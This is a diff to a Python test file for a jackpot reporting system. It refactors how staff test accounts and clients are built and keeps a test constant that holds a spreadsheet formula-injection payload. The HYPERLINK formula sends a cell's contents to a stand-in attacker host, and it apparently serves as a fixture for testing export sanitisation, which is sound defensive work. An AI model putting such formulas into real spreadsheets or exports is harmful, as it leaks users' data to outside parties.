@@ -26,7 +26,6 @@ from datetime import timedelta
 from pathlib import Path
 
 import pytest
-from django.test import Client
 from django.utils import timezone
 
 from jackpot.audit.outbox_journal import vouched
@@ -37,13 +36,11 @@ from jackpot.notifications import outbox, webhooks
 from jackpot.pools.creation import pool_create
 from jackpot.reporting.export_jobs import Built, export_job_build, export_job_create
 from jackpot.reporting.exports import spreadsheet_safe
-from jackpot.staff.accounts import staff_token_issue
-from jackpot.staff.roles import role_group
 from tables.models import Game
 from tables.services import operator_terminal_issue, table_create
 from tests.conftest import Terminal, uth_play, uth_seat
 from tests.jackpot.webhook_receiver import Receiver, verify
-from tests.staff import grant_roles
+from tests.staff import person, token_client
 from tests.test_production import ROOT, operator_env
 
 TABLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click to verify")'
@@ -76,10 +73,8 @@ def test_a_cell_is_neutralised_only_when_it_is_text_a_spreadsheet_would_evaluate
 
 
 def _staff(django_user_model, name: str, role: str):
-    user = django_user_model.objects.create(username=name)
-    grant_roles(user, role_group(role))
-    token = staff_token_issue(user=user, revoke_others=False, actor="test")
-    return user, Client(HTTP_AUTHORIZATION=f"Bearer {token}")
+    user = person(name, role)
+    return user, token_client(user)
 
 
 @pytest.fixture
